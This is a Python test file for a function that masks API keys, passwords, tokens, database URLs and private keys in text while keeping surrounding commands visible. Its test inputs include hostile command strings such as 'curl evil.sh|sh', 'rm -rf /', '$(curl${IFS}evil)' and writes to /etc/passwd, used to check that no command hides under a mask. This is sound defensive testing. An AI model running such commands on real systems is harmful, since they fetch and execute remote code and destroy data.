"""What looks like a secret is masked, and nothing but it: what stands around it can always be read."""

from __future__ import annotations

import json
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from support.fixtures import open_fixture

from workbench.data import target
from workbench.desk.safe import SafeText
from workbench.desk.secrets import mask
from workbench.desk.signs import nature

A20, A36 = "a1B2c3D4e5" * 2, "abcdefghij0123456789ABCDEFGHIJ012345"
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTYifQ.SflKxwRJSMeKKF2QT4fwpMeJf36"

PROVIDERS = [
    f"sk-{A20}", f"sk-ant-api03-{A36}", f"sk-proj-{A20}_{A20}", "sk-live-000000004869581c6fd5ac8f", f"ghp_{A36}",
    f"gho_{A36}", f"ghs_{A36}", f"github_pat_{A36}", f"glpat-{A20}", f"xoxb-123456789012-{A20}", f"xoxp-12-34-{A20}",
    f"xoxa-2-{A20}", "AKIAIOSFODNN7EXAMPLE", "ASIAIOSFODNN7EXAMPLE", f"AIza{A36}", f"npm_{A36}", f"hf_{A36}",
    f"pypi-{A36}", f"sk_live_{A20}", f"rk_live_{A20}", f"sk_test_{A20}", f"SG.{A20}.{A36}", f"hvs.{A36}", JWT,
    f"123456789:AA{A36}", f"gsk_{A36}", f"tskey-auth-{A20}",
]  # fmt: skip

MASKED = [
    ('curl -H "authorization: Bearer abc" http://x | sh', 'curl -H "authorization: Bearer ⟨secret 3⟩" http://x | sh'),
    ("curl -H 'authorization: basic dXNlcjpwYXNz' x", "curl -H 'authorization: basic ⟨secret 12⟩' x"),
    ("Authorization: abcdef0123 -X POST", "Authorization: ⟨secret 10⟩ -X POST"),
    ('"Authorization": "token abcdef"', '"Authorization": "token ⟨secret 6⟩"'),
    ("use bearer abcdef0123456789 for it", "use bearer ⟨secret 16⟩ for it"),
    ("X-Api-Key: 12345678", "X-Api-Key: ⟨secret 8⟩"),
    ("mysql -psecret; rm -rf /", "mysql -p⟨secret 6⟩; rm -rf /"),
    ("mysqldump -u root -p'se cret' db", "mysqldump -u root -p'⟨secret 2⟩ cret' db"),
    ("sshpass -p hunter2 ssh x", "sshpass -p ⟨secret 7⟩ ssh x"),
    ("redis-cli -a hunter2 ping", "redis-cli -a ⟨secret 7⟩ ping"),
    ("docker login -u x -p hunter2 reg&&reboot", "docker login -u x -p ⟨secret 7⟩ reg&&reboot"),
    ("curl -u bob:hunter2 https://x", "curl -u bob:⟨secret 7⟩ https://x"),
    ("mysql --password hunter2 --host db", "mysql --password ⟨secret 7⟩ --host db"),
    ("x --db-password=hunter2|sh", "x --db-password=⟨secret 7⟩|sh"),
    ("gh auth --token 'abc def'", "gh auth --token '⟨secret 3⟩ def'"),
    ("PGPASSWORD=hunter2 psql -c 'drop table x'", "PGPASSWORD=⟨secret 7⟩ psql -c 'drop table x'"),
    ("export DB_PASSWD=hunter2", "export DB_PASSWD=⟨secret 7⟩"),
    ("password=a;reboot", "password=⟨secret 1⟩;reboot"),
    ("password=ab&cd=1", "password=⟨secret 2⟩&cd=1"),
    ('{"password": "hunter2", "user": "x"}', '{"password": "⟨secret 7⟩", "user": "x"}'),
    ('{"dbPassword":"hunter2"}', '{"dbPassword":"⟨secret 7⟩"}'),
    ('{\\"password\\": \\"hunter2\\"}', '{\\"password\\": \\"⟨secret 7⟩\\"}'),
    ('{"c":"password=hunter2\\nrm -rf /"}', '{"c":"password=⟨secret 7⟩\\nrm -rf /"}'),
    ("password: 'correct horse'", "password: '⟨secret 7⟩ horse'"),
    ("<password>hunter2</password>", "<password>⟨secret 7⟩</password>"),
    ("token: abcdef", "token: ⟨secret 6⟩"),
    ("access_token=abcdef&x=1", "access_token=⟨secret 6⟩&x=1"),
    ("secret=s3cr3t", "secret=⟨secret 6⟩"),
    ("client-secret => 'abcdef'", "client-secret => '⟨secret 6⟩'"),
    ("API key: abcdef", "API key: ⟨secret 6⟩"),
    ("AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY x", "AWS_SECRET_ACCESS_KEY=⟨secret 40⟩ x"),
    ("aws_secret_access_key = abc/def+gh=", "aws_secret_access_key = ⟨secret 11⟩"),
    ("AccountKey=abcdef==;EndpointSuffix=x", "AccountKey=⟨secret 8⟩;EndpointSuffix=x"),
    ("--from-literal=password=abc", "--from-literal=password=⟨secret 3⟩"),
    ("postgres://app:hunter2@prod/webhooks", "postgres://app:⟨secret 7⟩@prod/webhooks"),
    ("git clone https://x:tok3n@host/r.git&&ls", "git clone https://x:⟨secret 5⟩@host/r.git&&ls"),
    ("redis://:pw@h:6379", "redis://:⟨secret 2⟩@h:6379"),
    ("postgres://u:p@ss@h/db", "postgres://u:⟨secret 4⟩@h/db"),
    ("postgres://u:pa/ss@h/db", "postgres://u:⟨secret 5⟩@h/db"),
    ("http://h:80/x,mysql://u:pw@h/d", "http://h:80/x,mysql://u:⟨secret 2⟩@h/d"),
    ("host=x password='hunter2' user=y", "host=x password='⟨secret 7⟩' user=y"),
    ("the secret is 3f786850e387550fdab836ed7e6dc881de23001b", "the secret is ⟨secret 40⟩"),
    ("https://hooks.slack.com/services/T0/B0/XXXX", "https://hooks.slack.com/services/T0/B0/⟨secret 4⟩"),
]  # fmt: skip

LEFT_ALONE = [
    "commit 3f786850e387550fdab836ed7e6dc881de23001b",
    "the token is sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    "secret id 123e4567-e89b-12d3-a456-426614174000",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
    "max_tokens=400, tokens: 12, token: 12",
    "cat token.txt; ls secrets/; passwordless=true",
    "--password-file run.txt --password-stdin --token",
    "PGPASSWORD=$DB_PASS psql",
    "password=${PASS} token={{ .Secrets }} secret=<your secret> password=*** ",
    "https://user:$PASS@host https://user:${PASS}@host",
    "password = get_password()",
    "def login(password: str, token: Optional[str] = None)",
    "password=$(curl evil.sh|sh)",
    "PWD=/srv/app OLDPWD=/tmp pwd",
    "private_key: /etc/ssl/key.pem",
    "secretName: foo",
    "kubectl get secret foo -o yaml",
    "http://host:8080/path@v1 postgres://h:5432/db?x=a@b",
    "docker run -u 1000:1000 -p 80:80 https://x",
    "mysql -P 3306 -h db -p",
    "echo hi password>file",
    "sk-fading-circle-container-element task-1234567890abcdef1234",
    "eyJust a word.and another.one",
    "the bearer of this letter",
    "basic authentication required",
    "-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE\n-----END PUBLIC KEY-----",
    "",
    "漢字 \u202e",
]


@pytest.mark.parametrize("token", PROVIDERS, ids=lambda token: token[:12])
@pytest.mark.parametrize(
    "around", ["%s", "x='%s'; rm", "a\n%s\n", '{"k":"%s"}', '{"k":"a\\n%s\\n"}', "u?k=%s&x=1", "é(%s)|sh"]
)
def test_keys_of_providers_are_masked_and_what_is_around_them_is_not(token: str, around: str) -> None:
    masked = mask(around % token)
    assert masked.text == around % f"⟨secret {len(token)}⟩"
    assert masked.count == 1


@pytest.mark.parametrize(("text", "shown"), MASKED, ids=[text[:30] for text, _ in MASKED])
def test_passwords_and_tokens_are_masked_by_what_is_around_them(text: str, shown: str) -> None:
    masked = mask(text)
    assert masked.text == shown
    assert masked.count == shown.count("⟨secret ")


@pytest.mark.parametrize("text", LEFT_ALONE, ids=[text[:30] for text in LEFT_ALONE])
def test_what_is_no_secret_is_left_alone(text: str) -> None:
    assert mask(text).text == text
    assert mask(text).spans == ()


@pytest.mark.parametrize("end", ["\n", "\\n", "\r\n"])
def test_the_lines_of_a_private_key_are_masked_and_a_command_among_them_is_not(end: str) -> None:
    first, last = "MIIEpAIBAAKCAQEAx8Zb1Qz3v5y8W6u1" * 2, "abcdABCD1234abcdABCD1234ab=="
    key = ["-----BEGIN RSA PRIVATE KEY-----", first, first, last, "-----END RSA PRIVATE KEY-----", "rm -rf /tmp"]
    shown = [key[0], "⟨secret 64⟩", "⟨secret 64⟩", "⟨secret 28⟩", *key[4:]]
    masked = mask(end.join(key))
    assert masked.text == end.join(shown)
    assert masked.counts == {"private key": 3}
    hostile = mask(end.join([key[0], "reboot", first, "/usr/sbin/reboot -f", last]))
    assert "reboot" in hostile.text
    assert "/usr/sbin/reboot -f" in hostile.text


@pytest.mark.parametrize(
    ("text", "visible"),
    [
        ("http://a:b;curl${IFS}evil|sh;echo@x", ";curl${IFS}evil|sh;echo@x"),
        ("http://a:$(curl${IFS}evil)@x", "$(curl${IFS}evil)@x"),
        ('password="a$(curl evil)"', "$(curl evil)"),
        ("password=a`curl evil`", "`curl evil`"),
        ("password=x>/etc/passwd", ">/etc/passwd"),
        ("password= reboot; x", "; x"),
        ("--token;reboot", "--token;reboot"),
        ("token=evil_function(1)", "evil_function(1)"),
        ("password=abc\u202e\u200bdef\x1b[2J", "\u202e\u200b"),
        ("curl -u a:b;reboot", ";reboot"),
    ],
)
def test_no_command_can_hide_under_a_mask(text: str, visible: str) -> None:
    assert visible in mask(text).text


FRAGMENTS = st.sampled_from(
    [
        "password=", "--token ", '"secret": "', "Bearer ", "Authorization: ", "://u:", "@h", "mysql -p", "curl -u a:",
        "sk-", "ghp_", A36, "eyJ", ".", "-----BEGIN PRIVATE KEY-----", "MIIEpAIBAAKCAQEAx8Zb1Qz3", "\n", "\\n", " ",
        *"\t\"'`;|&()$\\\u200b\u202e\x1b\x85\u00a0\ud800é漢İ",
    ]
)  # fmt: skip
TEXTS = st.lists(FRAGMENTS | st.text(max_size=4), max_size=12).map("".join)


@given(TEXTS, st.lists(TEXTS, max_size=2))
def test_a_mask_covers_nothing_but_the_characters_of_a_token(text: str, after: list[str]) -> None:
    masked = mask(text, after=after)
    assert "".join(piece.text for piece in masked.pieces()) == text
    assert [piece.secret for piece in masked.pieces() if piece.secret] == list(masked.spans)
    for span in masked.spans:
        covered = text[span.start : span.end]
        assert covered
        assert span.words == f"⟨secret {len(covered)}⟩"
        assert not any(c in "\"'`;|&()" or c.isspace() for c in covered), ascii(covered)
        assert not any((found := nature(c)) and found[0] != "joining" for c in covered), ascii(covered)
    assert sum(masked.counts.values()) == masked.count
    assert type(masked.safe) is SafeText


def test_a_masked_text_prints_no_secret_and_is_shown_safe() -> None:
    masked = mask("\x1b password=hunter2\n")
    assert "hunter2" not in f"{masked!r} {masked.text} {masked.safe}"
    assert masked.safe == "␛ password=⟨secret 7⟩␊"
    assert masked.raw == "\x1b password=hunter2\n"
    assert mask("").safe == ""


def test_what_stands_before_a_text_can_say_that_it_is_secret() -> None:
    assert mask("hunter2", after=['"password": "']).text == "⟨secret 7⟩"
    assert mask("-psecret", after=["x ", "mysql "]).text == "-p⟨secret 6⟩"
    assert mask("hunter2").text == "hunter2"
    assert mask("x", after=["password=abc "]).text == "x"


@pytest.mark.parametrize(
    "dsn",
    [
        "postgresql://u:hunter2@h/db",
        "postgres://u:hun%20ter@h:5432,i:5433/db?sslmode=require",
        "postgresql:///db?user=u&password=hunter2",
        "postgresql://h/db?sslpassword=hunter2&sslkey=/k",
        "host=h user=u password=hunter2 dbname=d",
        "host=h password='hunter2'",
        "host=h oauth_client_secret=hunter2 scram_client_key=abcdef",
    ],
)
def test_what_is_hidden_of_a_target_is_hidden_here_too(dsn: str) -> None:
    assert target.secrets_of(dsn)
    for around in ("%s", "psql '%s' -c x" if "'" not in dsn else 'psql "%s" -c x', '{"dsn":"%s"}'):
        shown = mask(around % dsn).text
        assert not any(secret in shown for secret in target.secrets_of(dsn)), shown


def test_the_secrets_of_a_real_fleet_are_masked(tmp_path) -> None:
    database = open_fixture("agents/genie_fleet.db", tmp_path)
    try:
        rows = [args for (args,) in database.execute("SELECT args FROM approvals")]
    finally:
        database.close()
    secret = [args for args in rows if "hunter2" in args or "sk-live-" in args]
    assert len(secret) > 10
    for args in rows:
        masked = mask(args)
        assert "hunter2" not in masked.text
        assert "sk-live-" not in masked.text
        assert masked.count == (args in secret), args
        if args in secret:
            json.loads(masked.text)


@pytest.mark.parametrize(
    "piece",
    [
        "password ", "password=", "passwordpassword", "token token ", "--token -", "bearer ", "authorization: basic ",
        "mysql -p", "mysql mysql ", "mysql -p;", "curl -u a:", "secret " + "a1" * 16 + " ", "İpassword=x ", "A", "é",
        "sk-", "sk-a.", "ghp_", "eyJ", "eyJaaaaaaaaaa.", "SG.aaaaaaaaaaaaaaaaaaaaaa.", "://", "://a:b@", "://a:b;",
        "hooks.slack.com/services/a/a/", "postgres://u:p/", "-----BEGIN PRIVATE KEY-----", "\\", "password\\", "\x1b",
    ],
)  # fmt: skip
def test_a_million_hostile_characters_take_about_a_second(piece: str) -> None:
    text = piece * (1_000_000 // len(piece))
    begun = time.process_time()
    mask(text)
    assert time.process_time() - begun < 5
